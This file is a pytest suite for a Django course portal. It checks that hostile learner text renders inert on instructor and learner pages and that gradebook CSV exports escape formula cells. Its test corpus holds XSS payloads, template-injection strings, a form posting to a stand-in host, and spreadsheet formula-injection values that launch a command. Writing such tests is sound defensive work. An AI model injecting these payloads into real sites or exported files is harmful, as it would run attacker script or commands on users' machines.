"""Whatever a learner writes is inert on every page that shows it, and no formula in a file."""

import csv
from io import StringIO

import pytest
from django.test import Client

from portal.accounts.models import User
from portal.cohorts.actions import release
from portal.cohorts.marking import Mark, mark
from portal.interviews.models import Response
from tests.cohorts.cast import DAY, act_of, join, set_task, sit
from tests.factories import NOON, make_user
from tests.listening import EVIL, heard

pytestmark = pytest.mark.django_db
CORPUS = [
    EVIL,
    'It is small "><script>alert(1)</script>',
    "small</mark></p><svg/onload=alert(1)>",
    "' onmouseover='alert(1)' small {{ 7|add:7 }} {% load static %}",
    '=HYPERLINK("javascript:alert(1)";"small") \u202e\ufeff<!-- small --><![CDATA[<script>]]>',
    "small <textarea></textarea><form action=//evil.example><button formaction=javascript:alert(1)>",
]
PAGES = (
    "/cohorts/{cohort}/gradebook/",
    "/cohorts/{cohort}/topics/",
    "/cohorts/{cohort}/members/",
    "/cohorts/assignments/{task}/marking/",
    "/cohorts/assignments/{task}/marking/{response}/",
    "/cohorts/assignments/{task}/attempts/{attempt}/",
    "/cohorts/assignments/{task}/people/{learner}/",
)
OWN = ("/interviews/{attempt}/result/", "/interviews/{attempt}/transcript/", "/cohorts/assignments/{task}/")


@pytest.fixture
def learner() -> User:
    return make_user("learner", first_name='=cmd|"/c calc"', last_name="<img src=x onerror=alert(1)>")


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_response_is_inert_on_every_page_of_who_teaches_and_of_its_learner(cohort, learner, text):
    task = set_task(cohort, count=1)
    attempt = sit(task, join(cohort, learner).user, text)
    said = Response.objects.select_related("item__attempt", "current_score").get()
    said.conflicting_texts.create(writer="another-tab", text=text, at=NOON)
    for result in said.current_score.point_results.all():
        said.claim(result.key_point_id, (0, len(text)), NOON)
    mark(said, Mark({}, said.current_score_id), act_of(cohort, reason=text))
    said.comments.create(by=act_of(cohort).by, at=NOON, text=text)
    release(task, task.version, results_at=NOON, answers_at=NOON, act=act_of(cohort, NOON + DAY))
    names = {"cohort": cohort.pk, "task": task.pk, "response": said.pk, "attempt": attempt.pk, "learner": learner.pk}
    clients = {page: client_of(act_of(cohort).by) for page in PAGES} | {page: client_of(learner) for page in OWN}

    answers = {page: who.get(page.format(**names)) for page, who in clients.items()}

    assert {page: answer.status_code for page, answer in answers.items()} == dict.fromkeys(answers, 200)
    assert {page: heard(answer.content) for page, answer in answers.items()} == {page: [] for page in answers}


def client_of(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.mark.parametrize("rows", ["learners", "attempts"])
def test_no_cell_of_an_exported_gradebook_is_a_formula(cohort, learner, owner_client, rows):
    sit(set_task(cohort, title="=1+1", count=1), join(cohort, learner).user, CORPUS[4])

    text = owner_client.get(f"/cohorts/{cohort.pk}/gradebook.csv?rows={rows}").content.decode()

    cells = [cell for row in csv.reader(StringIO(text.removeprefix("\ufeff"))) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert any(cell.startswith("'=cmd") for cell in cells)
